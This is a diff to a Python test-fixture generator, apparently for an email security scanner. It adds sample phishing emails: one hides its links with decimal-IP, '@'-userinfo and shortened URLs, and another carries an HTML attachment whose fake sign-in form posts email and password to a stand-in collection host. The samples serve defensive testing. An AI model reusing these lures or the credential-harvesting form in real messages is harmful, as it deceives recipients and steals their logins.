@@ -527,6 +527,38 @@ def attacks() -> dict[str, bytes]:
     )
     out["INBOX/36-docx-hidden-text.eml"] = _b(m)
 
+    m = _msg(
+        "Parcel on hold: confirm delivery",
+        "Parcel Service <notice@parcel-hold.test>",
+        "Mon, 23 Nov 2026 08:25:00 +0000",
+        218,
+    )
+    m.set_content(
+        "Your parcel is on hold. Confirm your delivery details and pay the fee:\n"
+        "http://3405803853/parcel/confirm.php\n\n"
+        "Track it here: https://www.parcels.example@parcel-hold.test/track\n"
+        "Short link: https://bit.ly/parcel-2026\n"
+    )
+    out["INBOX/38-link-tricks.eml"] = _b(m)
+
+    m = _msg(
+        "Remittance advice",
+        "Finance <finance@remittance-advice.test>",
+        "Mon, 23 Nov 2026 08:30:00 +0000",
+        219,
+    )
+    m.set_content("The remittance advice is attached. Open it and sign in to view it.\n")
+    m.add_attachment(
+        b"<html><body><h3>Sign in to view the document</h3>"
+        b"<form action='https://collect.remittance-advice.test/p' method='post'>"
+        b"<input name='email'><input type='password' name='pw'><button>View</button>"
+        b"</form></body></html>",
+        maintype="text",
+        subtype="html",
+        filename="Remittance_Advice.html",
+    )
+    out["INBOX/39-html-attachment.eml"] = _b(m)
+
     out["INBOX/34-deep-nesting.eml"] = (
         "From: Nest <nest@nesting.example>\r\nTo: " + ME + "\r\nSubject: Nested parts\r\n"
         "Date: Mon, 23 Nov 2026 08:10:00 +0000\r\nMessage-ID: <demo-215@demo.example>\r\n"
